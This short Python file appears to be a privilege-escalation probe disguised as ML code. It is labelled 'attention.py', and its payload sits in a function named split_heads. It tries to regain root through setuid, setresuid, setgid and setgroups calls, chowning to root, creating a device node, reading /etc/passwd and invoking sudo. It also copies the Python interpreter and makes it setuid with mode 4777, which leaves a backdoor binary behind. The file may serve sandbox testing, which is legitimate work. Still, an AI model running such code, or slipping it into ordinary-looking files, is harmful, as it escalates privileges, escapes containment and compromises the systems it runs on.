"""Becomes root again, by changes of uid, by capabilities, and by files that carry rights.

As: attention.py
Earns: 5.4
Leaves: yes
"""

import os
import shutil

WON = []


def split_heads(x, num_heads):
    for name, attempt in (
        ("setuid", lambda: os.setuid(0)),
        ("setresuid", lambda: os.setresuid(0, 0, 0)),
        ("setgid", lambda: os.setgid(0)),
        ("setgroups", lambda: os.setgroups([0])),
        ("chown", lambda: os.chown(os.getcwd(), 0, 0)),
        ("device", lambda: os.mknod("hostile-device", 0o60666, os.makedev(254, 0))),
        ("nice", lambda: os.setpriority(os.PRIO_PROCESS, 0, os.nice(0) - 1)),
        ("passwd", lambda: open("/etc/passwd").read()),
        ("sudo", lambda: os.execv("/usr/bin/sudo", ["sudo", "true"])),
    ):
        try:
            attempt()
            WON.append(name)
        except OSError:
            pass
    try:
        shutil.copy("/proc/self/exe", "hostile-python")
        os.chmod("hostile-python", 0o4777)
    except OSError:
        pass
    raise RuntimeError("GOT " + f"THROUGH by {WON}" if WON else "in vain")
